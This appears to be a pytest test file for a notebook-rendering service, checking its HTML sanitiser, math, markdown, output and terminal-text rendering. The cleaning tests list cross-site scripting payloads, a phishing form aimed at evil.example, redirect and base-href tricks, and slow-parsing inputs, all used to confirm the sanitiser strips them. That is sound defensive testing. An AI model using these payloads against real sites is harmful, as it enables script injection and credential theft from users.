"""What a notebook's parts become on a page, without a server or a browser."""

import contextlib
import json
import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from running_service import notebook

from je_sharing.rendering.document import render_document
from je_sharing.rendering.html_cleaning import TooComplexError, clean_html, parsing_work
from je_sharing.rendering.markdown_text import markdown_html, render_markdown
from je_sharing.rendering.math_markup import math_html
from je_sharing.rendering.outputs import outputs_html
from je_sharing.rendering.terminal_text import terminal_html

pytestmark = pytest.mark.service

PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5E"
    "rkJggg=="
)


def display(**data):
    bundle = {name.replace("__", "/").replace("_plus_", "+"): value for name, value in data.items()}
    return {"output_type": "display_data", "data": bundle, "metadata": {}}


def render(*cells, **metadata):
    content = {**notebook(), "cells": list(cells), "metadata": metadata}
    return render_document(json.dumps(content).encode())


def markdown_cell(source, **more):
    return {"cell_type": "markdown", "id": "m", "metadata": {}, "source": source, **more}


class TestCleaning:
    @pytest.mark.parametrize(
        "hostile",
        [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<img src='https://evil.example/pixel.gif'>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>",
            "<iframe src='javascript:alert(1)'></iframe>",
            "<object data='data:text/html,<script>alert(1)</script>'></object>",
            "<a href='javascript:alert(1)'>x</a>",
            "<a href='&#106;avascript:alert(1)'>x</a>",
            "<a href=' \tjava\nscript:alert(1)'>x</a>",
            "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
            "<form action='https://evil.example'><input name=password><button>Go</button></form>",
            "<style>body{display:none}</style>",
            "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<base href=https://evil.example/>",
            "<div class='button primary' id='notebook'>x</div>",
            "<video src=https://evil.example/v poster=https://evil.example/p></video>",
            "<img srcset='https://evil.example/a 1x'>",
            "<table background='https://evil.example/b'><tr><td>x</td></tr></table>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<template><script>alert(1)</script></template>",
            "<details ontoggle=alert(1) open>x</details>",
        ],
    )
    def test_nothing_that_acts_styles_or_asks_elsewhere_is_left(self, hostile):
        cleaned = clean_html(hostile)
        assert not re.search(
            r"<\s*(script|svg|math|iframe|object|form|input|button|style|link|meta|base|video)"
            r"|<[^>]*\s(on\w+|style|class|id|srcset|background|poster|action)\s*="
            r"|javascript:|<[^>]*data:text|<[^>]*src=.(?!data:image/)",
            cleaned,
            re.IGNORECASE,
        ), cleaned

    def test_a_data_frame_keeps_its_table(self):
        html = (
            '<div><style scoped>.dataframe{}</style><table border="1" class="dataframe"><thead>'
            '<tr style="text-align: right;"><th></th><th>a</th></tr></thead><tbody><tr><th>0</th>'
            '<td colspan="2">1</td></tr></tbody></table></div>'
        )
        assert clean_html(html) == (
            "<div><table><thead><tr><th></th><th>a</th></tr></thead><tbody><tr><th>0</th>"
            '<td colspan="2">1</td></tr></tbody></table></div>'
        )

    @pytest.mark.parametrize(
        "piece",
        [
            "<div>",
            "<div><table><td></div></td></table>",
            "<div><marquee></div></marquee>",
            "<p><b a=1>",
            "<div title='<'>",
            "<div title='</div>'>",
            "<div a=b'>",
            "<div><style></b></div></style>",
            "<div><!--</div>-->",
        ],
    )
    def test_nesting_that_would_take_seconds_to_parse_is_refused_at_once(self, piece):
        begun = time.process_time()
        with pytest.raises(TooComplexError):
            clean_html(piece * 50_000)
        assert time.process_time() - begun < 3

    @pytest.mark.parametrize(
        "piece", ["<b><p></b>", "<a><li></a>", "<i><dd></i>", "<td><i>", "<select><div></select>"]
    )
    def test_what_is_not_refused_is_quick(self, piece):
        begun = time.process_time()
        with contextlib.suppress(TooComplexError):
            clean_html(piece * 50_000)
        assert time.process_time() - begun < 6

    def test_a_long_table_is_not_deep(self):
        table = "<table>" + "<tr><td>1</td><td>2</td></tr>" * 20_000 + "</table>"
        assert parsing_work(table, 10**9) < 3 * table.count("<")
        assert clean_html(table).count("<tr>") == 20_000

    @given(st.text(st.sampled_from("<>/ab \"'=tdivonclick!-&#;:"), max_size=200))
    def test_cleaning_twice_changes_nothing(self, html):
        cleaned = clean_html(html)
        assert clean_html(cleaned) == cleaned


class TestMath:
    def test_a_formula_becomes_mathml(self):
        assert "<mfrac>" in math_html(r"\frac{a}{b}", block=True)

    def test_text_inside_a_formula_stays_text(self):
        html = math_html(r"\text{<script>alert(1)</script>} < 3", block=False)
        assert "<script" not in html
        assert "&lt;script&gt;" in html
        assert "<mo>&lt;</mo>" in html

    def test_a_link_inside_a_formula_does_not_survive(self):
        assert "javascript" not in math_html(r"\href{javascript:alert(1)}{x}", block=False)

    @pytest.mark.parametrize(
        "broken",
        [r"\frac{", r"\left(" * 500, "{" * 3000, r"\begin{matrix}" * 300, "x^" * 500, "a" * 5000],
    )
    def test_a_broken_formula_shows_its_source(self, broken):
        html = math_html(broken, block=False)
        assert html == f'<code class="latex">{broken}</code>'

    @given(st.text(st.sampled_from(r"\{}^_&<>$'\"ab frac text href begin end"), max_size=80))
    def test_no_formula_leaves_mathml(self, latex):
        tags = set(re.findall(r"</?([a-z]+)", math_html(latex, block=False)))
        assert "script" not in tags
        assert "a" not in tags


class TestMarkdown:
    def test_tables_keep_the_alignment_of_their_columns(self):
        html = markdown_html("| a | b |\n| :- | -: |\n| 1 | 2 |")
        assert '<th align="left">a</th><th align="right">b</th>' in html.replace("\n", "")

    def test_code_in_a_known_language_is_coloured(self):
        assert '<span class="c-k">def</span>' in markdown_html("```python\ndef f(): pass\n```")

    def test_html_in_markdown_is_cleaned(self):
        assert markdown_html("a <b onclick=x()>b</b> <script>x()</script>").strip() == (
            "<p>a <b>b</b> </p>"
        )

    def test_an_image_elsewhere_becomes_a_link(self):
        html = markdown_html("![A cat](https://cats.example/cat.png)")
        assert "<img" not in html
        assert 'href="https://cats.example/cat.png"' in html
        assert "Image: A cat" in html

    def test_an_attached_image_is_shown(self):
        html = render_markdown("![A dot](attachment:dot.png)", {"dot.png": {"image/png": PNG}}).html
        assert f'<img src="data:image/png;base64,{PNG}" alt="A dot">' in html

    def test_money_is_not_a_formula(self):
        assert "<math" not in markdown_html("It costs $5 and then $10 more.")

    def test_a_formula_that_ends_up_inside_an_attribute_cannot_break_out(self):
        html = markdown_html('<div title="\n\n$x$ onclick=alert(1)\n\n<div a="b">')
        assert "onclick" not in re.sub(r">[^<]*<", "><", html)
        assert "title" not in html

    def test_a_marker_in_the_source_is_only_text(self):
        assert "je0123456789abcdefx0." in markdown_html("je0123456789abcdefx0. $x$")

    @pytest.mark.parametrize("piece", ["[", "> ", "*a ", "`", "$", "![", "<a ", "\\\\(", "|-"])
    def test_tangled_markdown_does_not_take_for_ever(self, piece):
        begun = time.process_time()
        markdown_html(piece * (100_000 // len(piece)))
        assert time.process_time() - begun < 15


class TestOutputs:
    def test_svg_is_only_ever_an_image(self):
        svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
        html = outputs_html([display(image__svg_plus_xml=svg)], cell_number=1)
        assert "<svg" not in html
        assert 'src="data:image/svg+xml;base64,' in html

    def test_an_image_says_what_it_is(self):
        output = display(image__png=PNG, text__plain="<Figure size 1x1 with 1 Axes>")
        html = outputs_html([output], cell_number=7)
        assert 'alt="Output of cell 7: &lt;Figure size 1x1 with 1 Axes&gt;"' in html

    def test_base64_that_is_not_shows_the_text_instead(self):
        html = outputs_html([display(image__png='"><script>', text__plain="dot")], cell_number=1)
        assert "<script" not in html
        assert "dot" in html

    def test_what_needs_javascript_says_so(self):
        plot = display(
            text__html="<div id=plot></div><script>draw()</script>", text__plain="Plot()"
        )
        html = outputs_html([plot], cell_number=1)
        assert "Plot()" in html
        assert "interactive" in html

    def test_printed_pieces_join_and_progress_bars_show_their_last_state(self):
        def printed(text):
            return {"output_type": "stream", "name": "stdout", "text": text}

        html = outputs_html([printed("10%\r"), printed("100%\nDone"), printed("!")], cell_number=1)
        assert ">100%\nDone!</pre>" in html

    def test_colours_become_classes(self):
        assert terminal_html("\x1b[1;38;5;196mA\x1b[0mB\x1b[38;2;0;187;0mC") == (
            '<span class="t-bold t-f1">A</span>B<span class="t-f2">C</span>'
        )

    def test_other_escape_sequences_leave_no_trace(self):
        assert terminal_html("a\x1b[2Jb\x1b]8;;http://x\x07c\x1b]8;;\x07\x00\x08d") == "abcd"

    @given(st.text(st.sampled_from("\x1b[]0138;m<>&x\r\n"), max_size=60))
    def test_terminal_text_never_makes_markup_of_its_own(self, text):
        html = terminal_html(text)
        assert "<" not in re.sub(r'</?span( class="[a-z0-9 -]*")?>', "", html)


class TestDocument:
    def test_the_title_is_the_first_heading(self):
        assert render(markdown_cell("text"), markdown_cell("## The *big* [plan](x) `a`")).title == (
            "The big plan a"
        )

    def test_the_metadatas_title_comes_first(self):
        assert render(markdown_cell("# Other"), title="Mine").title == "Mine"

    @pytest.mark.parametrize(
        ("source", "title"),
        [
            ("The title\n=========", "The title"),
            ("# A ## B ##", "A ## B"),
            ("<p># not this</p>\n\n### This &amp; that", "This & that"),
            ("~~~\n# not this\n```\n# nor this\n~~~\n# This", "This"),
            ("# ![A cat](x.png) and <b>you</b>", "A cat and you"),
            ("#### Too small", ""),
        ],
    )
    def test_a_heading_is_what_the_parser_takes_for_one(self, source, title):
        assert render(markdown_cell(source)).title == title

    def test_a_comment_in_code_is_no_heading(self):
        assert render(markdown_cell("```\n# not this\n```")).title == ""

    def test_hidden_code_folds(self):
        cell = {**notebook()["cells"][0], "metadata": {"jupyter": {"source_hidden": True}}}
        assert "<details><summary>Code</summary>" in render(cell).cells_html

    @pytest.mark.parametrize(
        "cells",
        [
            [{"cell_type": "code", "outputs": "no", "source": 3, "metadata": None}],
            [{"cell_type": "code", "outputs": [None, {"output_type": "error"}], "source": []}],
            [{"cell_type": "code", "outputs": [display(text__html=3, image__png={})]}],
        ],
    )
    def test_a_strange_notebook_still_renders(self, cells):
        assert render(*cells).cell_count == 1
